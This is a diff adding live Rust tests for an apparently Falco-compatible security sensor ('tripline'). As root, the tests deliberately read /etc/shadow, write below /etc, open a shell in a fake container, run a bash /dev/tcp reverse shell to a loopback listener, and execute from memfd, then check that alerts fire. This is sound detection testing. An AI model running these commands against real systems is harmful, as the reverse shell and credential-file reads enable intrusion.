@@ -1,0 +1,413 @@
+//! Live sensor tests: start the agent, do real things on this machine, check the alerts.
+//!
+//! They need root (CI runs as root). Elsewhere they are skipped with a message, unless
+//! `TRIPLINE_REQUIRE_SENSOR_TESTS` is set, which `.ci/run` does so they can never be skipped
+//! silently there.
+
+use std::collections::BTreeSet;
+use std::io::{Read, Write};
+use std::net::TcpListener;
+use std::path::{Path, PathBuf};
+use std::process::{Command, Stdio};
+use std::sync::atomic::{AtomicBool, Ordering};
+use std::sync::mpsc;
+use std::sync::Arc;
+use std::time::Duration;
+
+use tripline::run::{run, RunConfig, RunObserver, RunStats};
+use tripline_event::Finding;
+use tripline_rules::falco::{load, RulesFile};
+use tripline_rules::{RuleMatching, Ruleset};
+use tripline_sources::schemas;
+
+const RULES_DIR: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/../../data/falco/rules");
+
+fn enabled() -> bool {
+    // SAFETY: geteuid has no preconditions.
+    if unsafe { libc::geteuid() } == 0 {
+        return true;
+    }
+    if std::env::var_os("TRIPLINE_REQUIRE_SENSOR_TESTS").is_some() {
+        panic!("the sensor tests need root (TRIPLINE_REQUIRE_SENSOR_TESTS is set)");
+    }
+    eprintln!("skipping live sensor test: needs root");
+    false
+}
+
+fn rules(files: &[&str]) -> Ruleset {
+    let files: Vec<RulesFile> = files
+        .iter()
+        .map(|f| RulesFile {
+            name: f.to_string(),
+            content: std::fs::read_to_string(Path::new(RULES_DIR).join(f)).unwrap(),
+        })
+        .collect();
+    let (mut rules, report) = load(&files, &schemas());
+    assert!(report.is_ok(), "{:?}", report.errors);
+    let table = &tripline_sources::syscall::schema().fields;
+    rules
+        .append_output(
+            "syscall",
+            "container_id=%container.id container_name=%container.name",
+            table,
+        )
+        .unwrap();
+    rules
+}
+
+struct Collect {
+    ready: Option<mpsc::Sender<()>>,
+    findings: Vec<Finding>,
+}
+
+impl RunObserver for Collect {
+    fn on_ready(&mut self, _: &[String]) {
+        if let Some(tx) = self.ready.take() {
+            tx.send(()).unwrap();
+        }
+    }
+    fn on_alert(&mut self, f: Finding) {
+        self.findings.push(f);
+    }
+}
+
+/// Runs the agent around `actions` and returns its alerts and statistics.
+fn with_agent(
+    rules: Ruleset,
+    matching: RuleMatching,
+    actions: impl FnOnce(),
+) -> (Vec<Finding>, RunStats) {
+    let stop = Arc::new(AtomicBool::new(false));
+    let (tx, rx) = mpsc::channel();
+    let agent = {
+        let stop = Arc::clone(&stop);
+        std::thread::spawn(move || {
+            let cfg = RunConfig {
+                matching,
+                ..RunConfig::default()
+            };
+            let mut c = Collect {
+                ready: Some(tx),
+                findings: Vec::new(),
+            };
+            let stats = run(&rules, &cfg, &stop, &mut c).expect("sensor starts");
+            (c.findings, stats)
+        })
+    };
+    if rx.recv_timeout(Duration::from_secs(60)).is_err() {
+        let err = agent.join();
+        panic!("sensor did not start: {:?}", err.err());
+    }
+    actions();
+    // Alerts must arrive within a second of the action; give the poller that second.
+    std::thread::sleep(Duration::from_millis(1500));
+    stop.store(true, Ordering::Relaxed);
+    agent.join().expect("agent thread")
+}
+
+fn sh(script: &str) {
+    let status = Command::new("sh").arg("-c").arg(script).status().unwrap();
+    assert!(status.success(), "{script}: {status}");
+}
+
+fn field<'a>(f: &'a Finding, name: &str) -> Option<&'a serde_json::Value> {
+    f.output_fields
+        .iter()
+        .find(|(n, _)| n == name)
+        .map(|(_, v)| v)
+}
+
+fn text(f: &Finding, name: &str) -> String {
+    match field(f, name) {
+        Some(serde_json::Value::String(s)) => s.clone(),
+        Some(v) => v.to_string(),
+        None => panic!("{} has no {name}: {:?}", f.rule, f.output_fields),
+    }
+}
+
+/// The alerts of `rule` whose field `key` equals `value`.
+fn find<'a>(all: &'a [Finding], rule: &str, key: &str, value: &str) -> Vec<&'a Finding> {
+    all.iter()
+        .filter(|f| f.rule == rule && field(f, key).is_some_and(|_| text(f, key) == value))
+        .collect()
+}
+
+/// A fake container: a cgroup v2 directory named like a runtime's scope, and a launcher named
+/// `runc` that makes new namespaces.
+struct Container {
+    id: String,
+    cgroup: PathBuf,
+}
+
+impl Container {
+    fn new(runtime_prefix: &str, seed: u8) -> Container {
+        let id: String = (0..64)
+            .map(|i| char::from(b"0123456789abcdef"[(i * 7 + seed as usize) % 16]))
+            .collect();
+        let root = cgroup2_root();
+        let cgroup = root
+            .join(format!("tripline-test-{}", std::process::id()))
+            .join(format!("{runtime_prefix}-{id}.scope"));
+        std::fs::create_dir_all(&cgroup).unwrap();
+        Container { id, cgroup }
+    }
+
+    fn short_id(&self) -> &str {
+        &self.id[..12]
+    }
+
+    /// A shell command that moves itself into the container's cgroup, then runs `cmd`.
+    fn enter(&self, cmd: &str) -> String {
+        format!(
+            "echo $$ > {}/cgroup.procs && exec {cmd}",
+            self.cgroup.display()
+        )
+    }
+}
+
+impl Drop for Container {
+    fn drop(&mut self) {
+        let _ = std::fs::remove_dir(&self.cgroup);
+        if let Some(parent) = self.cgroup.parent() {
+            let _ = std::fs::remove_dir(parent);
+        }
+    }
+}
+
+fn cgroup2_root() -> PathBuf {
+    let mounts = std::fs::read_to_string("/proc/mounts").unwrap();
+    mounts
+        .lines()
+        .find_map(|l| {
+            let f: Vec<&str> = l.split(' ').collect();
+            (f.get(2) == Some(&"cgroup2")).then(|| PathBuf::from(f[1]))
+        })
+        .expect("a cgroup v2 mount")
+}
+
+#[test]
+fn upstream_rules_fire_on_real_actions() {
+    if !enabled() {
+        return;
+    }
+    let dir = tempfile::tempdir().unwrap();
+    let t = dir.path();
+    std::fs::set_permissions(t, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
+    // `runc` is unshare under a container runtime's name, as Falco's container_entrypoint expects.
+    std::fs::copy("/usr/bin/unshare", t.join("runc")).unwrap();
+    // A setuid-root copy of cat.
+    let suid = t.join("suidcat");
+    std::fs::copy("/usr/bin/cat", &suid).unwrap();
+    std::fs::set_permissions(&suid, std::os::unix::fs::PermissionsExt::from_mode(0o4755)).unwrap();
+    let etc_file = format!("/etc/tripline-test-{}", std::process::id());
+    let shell_ctr = Container::new("docker", 3);
+    let revshell_ctr = Container::new("cri-containerd", 5);
+    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+
+    let (alerts, stats) = with_agent(
+        rules(&[
+            "falco_rules.yaml",
+            "falco-incubating_rules.yaml",
+            "falco-sandbox_rules.yaml",
+        ]),
+        RuleMatching::All,
+        || {
+            // 1. An untrusted program reads /etc/shadow.
+            sh("cat /etc/shadow > /dev/null");
+            // 2. A write below /etc.
+            sh(&format!("echo x > {etc_file}; rm -f {etc_file}"));
+            // 3. A shell with a terminal, started by `runc` in new namespaces and a docker cgroup.
+            let runc = t.join("runc");
+            sh(&shell_ctr.enter(&format!(
+                "script -qec \"{} -m -p -u -n --fork sh -c 'exit 0'\" /dev/null > /dev/null",
+                runc.display()
+            )));
+            // 4. A reverse shell from a container to a loopback listener.
+            let mut child = Command::new("sh")
+                .arg("-c")
+                .arg(revshell_ctr.enter(&format!(
+                    "{} -m -p -u --fork bash -c 'bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1'",
+                    runc.display()
+                )))
+                .stdin(Stdio::null())
+                .stdout(Stdio::null())
+                .stderr(Stdio::null())
+                .spawn()
+                .unwrap();
+            let (mut conn, _) = listener.accept().unwrap();
+            conn.write_all(b"exit\n").unwrap();
+            conn.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
+            let _ = conn.read_to_end(&mut Vec::new());
+            child.wait().unwrap();
+            // 5. An unprivileged user runs a setuid-root binary that reads /etc/shadow.
+            let status = Command::new("setpriv")
+                .args(["--reuid=65534", "--regid=65534", "--clear-groups"])
+                .arg(&suid)
+                .arg("/etc/shadow")
+                .stdout(Stdio::null())
+                .status()
+                .unwrap();
+            assert!(status.success(), "setuid cat: {status}");
+            // 6. Fileless execution: run a binary from a memfd.
+            let status = Command::new("python3")
+                .arg("-c")
+                .arg(
+                    "import os\n\
+                     fd = os.memfd_create('tl-fileless', 0)\n\
+                     os.write(fd, open('/usr/bin/true', 'rb').read())\n\
+                     os.execv(f'/proc/self/fd/{fd}', ['fileless'])",
+                )
+                .status()
+                .expect("python3 runs");
+            assert!(status.success());
+        },
+    );
+    let mut failures = Vec::new();
+    let mut check = |what: &str, ok: bool| {
+        if !ok {
+            failures.push(what.to_string());
+        }
+    };
+
+    // 1.
+    let shadow = find(&alerts, "Read sensitive file untrusted", "proc.name", "cat");
+    check(
+        "cat /etc/shadow fires Read sensitive file untrusted",
+        !shadow.is_empty(),
+    );
+    if let Some(a) = shadow.first() {
+        check("fd.name", text(a, "fd.name") == "/etc/shadow");
+        check("proc.pname", text(a, "proc.pname") == "sh");
+        check("proc.cmdline", text(a, "proc.cmdline") == "cat /etc/shadow");
+        check("user.name", text(a, "user.name") == "root");
+        check("container.id", text(a, "container.id") == "host");
+    }
+    // 2.
+    let etc = find(&alerts, "Write below etc", "fd.name", &etc_file);
+    check("a write below /etc fires Write below etc", !etc.is_empty());
+    if let Some(a) = etc.first() {
+        check("write: proc.name", text(a, "proc.name") == "sh");
+        check("write: user.name", text(a, "user.name") == "root");
+    }
+    // 3.
+    let shell = find(
+        &alerts,
+        "Terminal shell in container",
+        "container.id",
+        shell_ctr.short_id(),
+    );
+    check(
+        "a terminal shell in the container fires Terminal shell in container",
+        !shell.is_empty(),
+    );
+    if let Some(a) = shell.first() {
+        check("shell: proc.name", text(a, "proc.name") == "sh");
+        check("shell: proc.pname", text(a, "proc.pname") == "runc");
+        check("shell: proc.tty", text(a, "proc.tty") != "0");
+    }
+    // 4.
+    let rev = find(
+        &alerts,
+        "Redirect STDOUT/STDIN to Network Connection in Container",
+        "container.id",
+        revshell_ctr.short_id(),
+    );
+    check(
+        "the reverse shell fires Redirect STDOUT/STDIN to Network Connection in Container",
+        !rev.is_empty(),
+    );
+    if let Some(a) = rev.first() {
+        check("reverse shell: proc.name", text(a, "proc.name") == "bash");
+        check(
+            "reverse shell: fd.name",
+            text(a, "fd.name").ends_with(&format!("->127.0.0.1:{port}")),
+        );
+    }
+    // 5.
+    let suid_alerts = find(
+        &alerts,
+        "Read sensitive file untrusted",
+        "proc.name",
+        "suidcat",
+    );
+    check(
+        "the setuid-root cat fires Read sensitive file untrusted",
+        !suid_alerts.is_empty(),
+    );
+    if let Some(a) = suid_alerts.first() {
+        // Falco's user.* fields are the effective ids: root, through the setuid bit.
+        check("setuid: user.uid", text(a, "user.uid") == "0");
+        check("setuid: fd.name", text(a, "fd.name") == "/etc/shadow");
+    }
+    // 6.
+    let fileless: Vec<_> = alerts
+        .iter()
+        .filter(|f| f.rule == "Fileless execution via memfd_create")
+        .collect();
+    check(
+        "memfd exec fires Fileless execution via memfd_create",
+        !fileless.is_empty(),
+    );
+
+    assert!(
+        failures.is_empty(),
+        "failed: {failures:#?}\nalerts: {:#?}\nstats: {stats:?}",
+        alerts
+            .iter()
+            .map(|f| format!("{}: {}", f.rule, f.message))
+            .collect::<Vec<_>>()
+    );
+    if std::env::var_os("TRIPLINE_TEST_SHOW").is_some() {
+        for f in &alerts {
+            eprintln!("{}: {}", f.rule, f.message);
+        }
+    }
+    assert_eq!(stats.kernel.dropped(), 0, "{stats:?}");
+}
+
+#[test]
+fn syscalls_no_rule_needs_never_reach_the_engine() {
+    if !enabled() {
+        return;
+    }
+    let dir = tempfile::tempdir().unwrap();
+    let d = dir.path().display();
+    let (_, stats) = with_agent(rules(&["falco_rules.yaml"]), RuleMatching::First, || {
+        sh(&format!(
+            "mkdir {d}/a && touch {d}/a/f && chmod 600 {d}/a/f && mv {d}/a/f {d}/a/g && rm {d}/a/g && rmdir {d}/a"
+        ));
+    });
+    let enabled: BTreeSet<&str> = stats.syscalls.iter().map(String::as_str).collect();
+    for not_needed in [
+        "mkdir",
+        "mkdirat",
+        "rmdir",
+        "unlink",
+        "unlinkat",
+        "rename",
+        "renameat2",
+        "chmod",
+        "fchmodat",
+    ] {
+        assert!(
+            !enabled.contains(not_needed),
+            "{not_needed} enabled: {enabled:?}"
+        );
+        assert_eq!(
+            stats.events_by_type.get(not_needed),
+            None,
+            "{not_needed}: {stats:?}"
+        );
+    }
+    // What the rules do need did flow (mkdir's shell and children opened and exec'd).
+    assert!(
+        stats.events_by_type.get("execve").copied().unwrap_or(0) >= 6,
+        "{stats:?}"
+    );
+    assert!(
+        stats.events_by_type.get("openat").copied().unwrap_or(0) > 0,
+        "{stats:?}"
+    );
+    assert!(stats.events > 0 && stats.kernel.emitted > 0);
+}
